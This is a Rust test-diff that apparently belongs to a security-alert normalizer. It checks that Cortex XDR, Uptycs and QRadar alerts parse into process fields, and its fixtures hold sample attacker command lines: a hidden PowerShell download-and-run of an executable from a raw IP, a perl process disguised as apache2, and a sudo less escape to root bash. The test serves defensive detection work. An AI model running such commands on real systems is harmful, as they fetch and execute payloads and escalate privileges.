@@ -7005,5 +7005,40 @@ mod tests {
             edr::shell_join(&["sh", "-c", "echo '$x'"]),
             "sh -c 'echo '\\''$x'\\'''"
         );
+        // Cortex XDR: an interpreter that started a program with no arguments is judged, the
+        // program following its command.
+        let cx = json!({"external_id": "x1", "host_name": "LT-1", "events": [{"actor_process_image_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "actor_process_command_line": "powershell.exe -nop -w hidden -c \"iwr http://1.2.3.4/r.exe -OutFile $env:APPDATA\\w.exe; Start-Process $env:APPDATA\\w.exe\"",
+            "action_process_image_path": "C:\\Users\\u\\AppData\\Roaming\\w.exe", "action_process_image_command_line": "\"C:\\Users\\u\\AppData\\Roaming\\w.exe\"",
+            "causality_actor_process_image_path": "C:\\Windows\\System32\\wscript.exe", "causality_actor_process_command_line": "wscript.exe C:\\Users\\u\\Downloads\\i.js"}]});
+        let a = from_json(cx, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("iwr http://1.2.3.4/r.exe"));
+        assert!(get(&a, "process.command_line").contains("w.exe\""));
+        assert!(get(&a, "process.parent.executable").ends_with("wscript.exe"));
+        // Uptycs: the row under `metadata.process_events`, the host from `assetHostName`.
+        let up = json!({"id": "u2", "assetId": "a2", "assetHostName": "lib-1", "code": "C", "key": "path", "value": "/usr/bin/perl",
+            "metadata": {"process_events": {"pid": 5, "path": "/usr/bin/perl", "cmdline": "/usr/sbin/apache2 -k start", "cwd": "/tmp/.ICE-unix/.p", "username": "koha"}}});
+        let a = from_json(up, "x").unwrap();
+        assert_eq!(get(&a, "process.executable"), "/usr/bin/perl");
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/usr/sbin/apache2 -k start"
+        );
+        assert_eq!(get(&a, "host.name"), "lib-1");
+        // QRadar: the parent's and grandparent's commands from the parsed columns beside a
+        // whole auditd record.
+        let qr = json!({"offense_id": 1, "qid": 5, "LOGSOURCENAME(logsourceid)": "LinuxServer @ r1", "username": "rep",
+            "Command": "/bin/bash", "Parent Command": "/usr/bin/less /var/log/a.log", "Grandparent Command": "sudo /usr/bin/less /var/log/a.log",
+            "UTF8(payload)": "<14>Nov 12 18:50:02 r1 audispd: type=SYSCALL msg=audit(1.1:5): syscall=59 ppid=3 pid=4 auid=1001 uid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" type=EXECVE msg=audit(1.1:5): argc=3 a0=\"/bin/bash\" a1=\"-c\" a2=\"/bin/bash\""});
+        let a = from_json(qr, "x").unwrap();
+        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c /bin/bash");
+        assert_eq!(
+            get(&a, "process.parent.command_line"),
+            "/usr/bin/less /var/log/a.log"
+        );
+        assert_eq!(
+            get(&a, "process.parent.parent.command_line"),
+            "sudo /usr/bin/less /var/log/a.log"
+        );
     }
 }
